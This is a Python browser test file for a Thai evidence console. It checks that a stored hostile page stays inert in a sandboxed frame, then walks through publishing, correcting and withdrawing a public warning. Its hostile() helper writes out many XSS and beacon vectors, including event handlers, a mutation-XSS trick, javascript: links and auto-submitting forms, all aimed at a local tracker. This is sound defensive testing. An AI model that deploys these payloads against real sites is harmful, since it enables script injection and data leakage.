"""Public alerts and stored pages in a real browser."""

import http.server
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import feedparser
import pytest

from crawler.evidence.writer import EvidenceFile, Exchange
from labels.schema import Listing
from labels.taxonomy import Verdict
from service.console.cases.inert_page import Shown
from service.store.tables.core_tables import Role

pytestmark = pytest.mark.needs_browser


@pytest.fixture
def tracker() -> Iterator[Any]:
    """A server that a hostile page would contact; ``asked`` are its requests."""

    class Tracker(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.server.asked.append(self.path)  # type: ignore[attr-defined]
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *_: Any) -> None:
            return

    server: Any = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Tracker)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def hostile(place: str) -> str:
    """A page that tries to run, to fetch from ``place``, to send forms there and to leave for it."""
    return f"""<html><head><title>ก</title><base href="{place}/base/">
<link rel=stylesheet href="{place}/css"><link rel=preload as=image href="{place}/preload"><link rel=icon href="{place}/icon">
<link rel=prefetch href="{place}/prefetch"><link rel=dns-prefetch href="{place}"><link rel=preconnect href="{place}">
<link rel=manifest href="{place}/manifest"><link rel=modulepreload href="{place}/module">
<meta http-equiv=refresh content="0;url={place}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<style>@import "{place}/import"; @font-face {{ font-family: f; src: url({place}/font) }}
body {{ font-family: f; background: url({place}/background) }} p::after {{ content: url({place}/content) }}</style>
<script src="{place}/script"></script><script type=module>import "{place}/import-script"</script>
<script>alert(1); top.location = "{place}/top"; fetch("{place}/fetch"); new Image().src = "{place}/beacon"; parent.document.title = "ran"</script>
</head><body onload="alert(2)" background="{place}/body"><p>ข้อความที่ผู้ซื้อเห็น</p>
<img src="{place}/img" srcset="{place}/srcset 2x" onerror="alert(3)"><img src=x onerror="alert(4)">
<picture><source srcset="{place}/source"><img src="{place}/picture"></picture>
<video src="{place}/video" poster="{place}/poster" autoplay></video><audio src="{place}/audio" autoplay></audio>
<iframe src="{place}/frame"></iframe><iframe srcdoc="<script>top.alert(5)</script><img src='{place}/srcdoc'>"></iframe>
<object data="{place}/object"></object><embed src="{place}/embed"><svg onload="alert(6)"><image href="{place}/svg" /><use href="{place}/use#a" /></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror="alert(7)"></style>
<form id=f action="{place}/form" method=post><input name=a autofocus onfocus="alert(8); f.submit()"><button>ส่ง</button></form>
<details open ontoggle="alert(9)"><summary>ก</summary></details><marquee onstart="alert(10)">ก</marquee>
<a href="{place}/link" ping="{place}/ping">ลิงก์</a> <a href="javascript:alert(11)">สคริปต์</a> <a href="{place}/blank" target=_blank>ใหม่</a>
<table background="{place}/table"><tr><td background="{place}/cell">ก</td></tr></table><input type=image src="{place}/input">
</body></html>"""


@pytest.mark.slow
@pytest.mark.parametrize("raw", [False, True], ids=["made inert", "sandbox and policy alone"])
def test_a_stored_page_stays_inert(
    page: Any,
    address: str,
    filled: Any,
    password: str,
    settings: Any,
    tracker: Any,
    monkeypatch: Any,
    raw: bool,
    sign_in: Any,
) -> None:
    place = f"http://127.0.0.1:{tracker.server_address[1]}"
    if raw:
        monkeypatch.setattr(
            "service.console.cases.stored_page.show", lambda content, *_: Shown(content.decode())
        )
    with EvidenceFile(settings.evidence.folder, {"software": "test"}) as file:
        exchange = Exchange("https://shop.example/1", 200, hostile(place).encode(), datetime.now(UTC))
        capture = file.record(exchange)
    number = filled.add(Listing(id="hostile", description="ข้อความ"), None, [capture])
    (row,) = filled.store.listings.captures(number)
    where = f"/cases/{number}/evidence/{row.id}"
    asked, dialogs, pages = [], [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda opened: pages.append(opened.url))
    sign_in(page, address, password, where)
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(f"{address}{where}")
    stored = page.frame_locator("iframe.stored")
    stored.get_by_text("ข้อความที่ผู้ซื้อเห็น").wait_for()
    page.wait_for_timeout(1500)
    # On its own the policy blanks the frame that a link would lead elsewhere: there is nothing left to click.
    for words in ("ลิงก์",) if raw else ("ลิงก์", "สคริปต์", "ใหม่", "ส่ง"):
        stored.get_by_text(words, exact=True).first.click(force=True)
        page.wait_for_timeout(200)
    assert dialogs == []
    assert pages == []
    assert tracker.asked == []
    assert all(url.startswith(f"{address}/") for url in asked)
    if not raw:
        stored.get_by_text("ข้อความที่ผู้ซื้อเห็น").wait_for()
    assert page.url == f"{address}{where}"
    assert page.title() == f"หน้าเว็บที่เก็บไว้ เคส {number} – Ruthan"
    tracker.asked.clear()
    page.goto(f"{address}{where}/page")  # opened by itself, outside of any frame
    page.wait_for_timeout(800)
    assert dialogs == []
    assert tracker.asked == []


@pytest.mark.slow
def test_an_old_thai_page_is_read_in_its_frame(
    page: Any, address: str, filled: Any, password: str, settings: Any, sign_in: Any, picture: Any
) -> None:
    words = "สมุนไพรใบรุ่งเรือง รักษาเบาหวานให้หายขาดใน 7 วัน"
    style = "<style>body { font-family: sans-serif; background: #fffbe6 } h1 { color: #a00 }</style>"
    body = f"<title>ร้านตัวอย่าง</title>{style}<h1>{words}</h1><p>ราคา 590 บาท <a href=/cart>สั่งซื้อ</a></p>"
    with EvidenceFile(settings.evidence.folder, {"software": "test"}) as file:
        capture = file.record(
            Exchange(
                "https://shop.example/item/1",
                200,
                body.encode("cp874"),
                datetime.now(UTC),
                response_headers=[("Content-Type", "text/html; charset=TIS-620")],
            )
        )
    number = filled.add(Listing(id="old", description=words), None, [capture])
    sign_in(page, address, password, f"/cases/{number}")
    page.click("text=เปิดดูในกรอบปลอดภัย")
    stored = page.frame_locator("iframe.stored")
    assert stored.locator("h1").inner_text() == words
    assert stored.locator("a").get_attribute("title") == "/cart"
    assert stored.locator("a").get_attribute("href") is None
    picture(page, "console-stored-page")
    assert page.faults == []


def correct(page: Any, picture: Any) -> None:
    """Correct a warning from its page; afterwards the page also shows the earlier text."""
    page.click("#correct")
    page.fill('textarea[name="what"]', "แก้ไขชื่อโรคที่อ้างว่ารักษาได้")
    text = page.locator('textarea[name="text"]')
    text.fill(text.input_value().replace("เพิ่มโดยหัวหน้างาน", "อ้างว่ารักษาโรคเบาหวาน"))
    page.click('button[value="check"]')
    page.locator("#changes-title").wait_for()
    picture(page, "console-alert-correct")
    page.click('button[value="publish"]')
    page.wait_for_url("**/alert-desk/1?done=corrected")
    assert "เพิ่มโดยหัวหน้างาน" in page.locator("section:has(#versions-title) del").all_inner_texts()[0]


@pytest.mark.slow
def test_a_lead_publishes_a_warning_corrects_it_and_withdraws_it(
    page: Any, address: str, filled: Any, password: str, sign_in: Any, picture: Any
) -> None:
    filled.store.users.set_role("nok", Role.LEAD, "cli")
    number = filled.ids["worst"]
    sign_in(page, address, password, f"/cases/{number}")
    page.locator('label:has(input[name="claim-1"][value="confirm"])').click()
    page.locator(f'button[value="{Verdict.PROHIBITED}"]').click()
    page.wait_for_url("**?saved=*")
    page.goto(f"{address}/cases/{number}")
    page.click("#draft-alert")
    text = page.locator('textarea[name="text"]')
    draft = text.input_value()
    text.fill(f"{draft}\nทักไลน์ @bairungrueang")
    page.click('button[value="publish"]')
    assert "ต้องตัดออก" in page.locator("#draft-found").inner_text()
    text.fill(f"{draft}\nเพิ่มโดยหัวหน้างาน")
    page.click('button[value="check"]')
    page.get_by_text("ยังไม่ได้เผยแพร่").wait_for()
    picture(page, "console-alert-draft")
    page.click('button[value="publish"]')
    page.wait_for_url("**/alert-desk/1?done=published")
    public = page.locator("dd a").first.get_attribute("href")

    visitor = page.context.browser.new_context(java_script_enabled=False, locale="th-TH")
    reader = visitor.new_page()
    faults: list[str] = []
    reader.on("console", lambda note: faults.append(note.text) if note.type == "error" else None)
    reader.goto(f"{address}/alerts")
    reader.click("main h2 a")
    assert reader.url == f"{address}{public}"
    assert "เพิ่มโดยหัวหน้างาน" in reader.locator("article").inner_text()
    picture(reader, "public-alert")
    assert visitor.cookies() == []
    feed = reader.locator('link[type="application/atom+xml"]').get_attribute("href")
    (entry,) = feedparser.parse(visitor.request.get(f"{address}{feed}").body()).entries
    assert entry.link == f"{address}{public}"

    correct(page, picture)
    reader.reload()
    article = reader.locator("article").inner_text()
    assert "แก้ไขชื่อโรคที่อ้างว่ารักษาได้" in article
    assert "เพิ่มโดยหัวหน้างาน" not in article

    page.fill('textarea[name="reason"]', "ตรวจสอบใหม่แล้วไม่พบการฝ่าฝืน")
    page.click("#withdraw button")
    page.get_by_text("ถอนโดย").wait_for()
    reader.reload()
    assert "ประกาศนี้ถูกถอนแล้ว" in reader.locator("article").inner_text()
    assert "โรคเบาหวาน" not in reader.locator("article").inner_text()
    (entry,) = feedparser.parse(visitor.request.get(f"{address}{feed}").body()).entries
    assert entry.title.startswith("ถอนประกาศแล้ว")
    assert faults == []
    assert [fault for fault in page.faults if "422" not in fault] == []
    visitor.close()
